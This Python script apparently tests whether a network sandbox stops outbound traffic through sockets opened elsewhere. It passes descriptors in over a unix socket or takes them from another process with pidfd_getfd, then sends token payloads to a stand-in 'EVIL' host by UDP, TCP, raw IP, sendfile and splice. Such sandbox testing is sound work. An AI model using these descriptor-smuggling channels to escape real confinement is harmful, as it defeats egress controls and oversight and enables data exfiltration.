"""Sockets of somebody else's, used inside.

pass.py give PATH: makes sockets outside, says `ready` and its process id, and hands them to whoever connects to the unix socket.
pass.py take PATH TOKEN MAC: takes them from there. pass.py steal PID TOKEN MAC: takes them out of that process (pidfd_getfd).
pass.py bring - TOKEN MAC: makes them, says `ready`, and goes on after a line of input, wherever it is by then.
Each sends by all that it got: NAME=ok|ERRNO a line; payloads are TOKEN-NAME; Then it sends by a socket of its own.
"""
import array
import ctypes
import errno
import os
import socket
import struct
import sys
import tempfile

KINDS = ["udp4", "udp6", "connected4", "connected6", "raw4", "packet", "written4", "sendfile4", "spliced4", "stream4", "tcp4",
         "received", "accepted"]
# A SYN carries nothing: this is where it goes.
SYN_PORT = 7107
EVIL, EVIL6 = "198.51.100.20", "2001:db8::20"
FIRST = 100


def make():
    socks = [
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    ]
    socks += [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]
    socks += [socket.create_connection((EVIL, 8080), 5), socket.socket(socket.AF_INET, socket.SOCK_STREAM)]
    socks[9].setblocking(False)
    socks[10].setblocking(False)
    # Loopback: what comes in by them was never outside.
    socks += [socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.create_server(("127.0.0.1", 0))]
    socks[11].bind(("127.0.0.1", 0))
    socks[11].setblocking(False)
    for _ in range(2):
        socks[11].sendto(b"x", socks[11].getsockname())
    for sock in socks[6:9]:
        sock.connect((EVIL, 443))
    socks[2].connect((EVIL, 443))
    socks[3].connect((EVIL6, 443))
    socks[5].bind(("eth0", 0))
    for at, sock in enumerate(socks):
        os.dup2(sock.fileno(), FIRST + at)
    return socks


def packet(payload):
    body = struct.pack("!HHHH", 5555, 443, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0x1234, 0, 64, 17, 0)
    head += socket.inet_aton("198.51.100.30") + socket.inet_aton(EVIL)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + body


def port_of(descriptor):
    return socket.socket(fileno=os.dup(descriptor)).getsockname()[1]


def use(descriptors, token, mac):
    link = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x30\x08\0"
    for name, descriptor in zip(KINDS, descriptors):
        payload = f"{token}-{name};".encode()
        sock = socket.socket(fileno=descriptor)
        try:
            if name.startswith("udp"):
                sock.sendto(payload, (EVIL6 if name.endswith("6") else EVIL, 443))
            elif name.startswith("connected"):
                sock.send(payload)
            elif name == "written4":
                os.write(descriptor, payload)
            elif name == "sendfile4":
                with tempfile.TemporaryFile() as file:
                    file.write(payload)
                    file.flush()
                    os.sendfile(descriptor, file.fileno(), 0, len(payload))
            elif name == "spliced4":
                reader, writer = os.pipe()
                os.write(writer, payload)
                os.splice(reader, descriptor, len(payload))
            elif name == "stream4":
                sock.send(payload)
            elif name == "tcp4":
                # What became of an earlier one is told first.
                code = next(code for code in (sock.connect_ex((EVIL, SYN_PORT)) for _ in range(3)) if code != errno.ECONNREFUSED)
                if code not in (0, errno.EINPROGRESS, errno.EALREADY):
                    raise OSError(code, "")
            elif name == "received":
                sock.recv(1)
            elif name == "accepted":
                # Before anything is called on the foreign one, which may be refused.
                own = socket.create_connection(("127.0.0.1", port_of(descriptor)), 5)
                sock.accept()[0].send(b"x")
                own.recv(1)
            elif name == "raw4":
                sock.sendto(packet(payload), (EVIL, 0))
            else:
                sock.send(link + packet(payload))
            print(f"{name}=ok", flush=True)
        except OSError as error:
            print(f"{name}={errno.errorcode.get(error.errno, error.errno)}", flush=True)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.sendto(f"{token}-plain;".encode(), ("198.51.100.10", 443))


if sys.argv[1] == "give":
    socks = make()
    door = socket.socket(socket.AF_UNIX)
    door.bind(sys.argv[2])
    door.listen()
    os.chmod(sys.argv[2], 0o777)
    print("ready", os.getpid(), flush=True)
    while True:
        guest, _ = door.accept()
        numbers = array.array("i", [sock.fileno() for sock in socks])
        guest.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
        guest.close()
elif sys.argv[1] == "take":
    door = socket.socket(socket.AF_UNIX)
    door.connect(sys.argv[2])
    numbers = array.array("i")
    _, control, _, _ = door.recvmsg(1, socket.CMSG_SPACE(len(KINDS) * 4))
    if control:
        numbers.frombytes(control[0][2])
    use(numbers, *sys.argv[3:])
elif sys.argv[1] == "bring":
    kept = make()
    print("ready", os.getpid(), flush=True)
    sys.stdin.readline()
    use([FIRST + at for at in range(len(KINDS))], *sys.argv[3:])
else:
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, int(sys.argv[2]), 0)
    taken = [libc.syscall(438, pidfd, FIRST + at, 0) for at in range(len(KINDS))]
    if min(taken) < 0:
        print("taken", os.strerror(ctypes.get_errno()), flush=True)
    use([descriptor for descriptor in taken if descriptor >= 0], *sys.argv[3:])
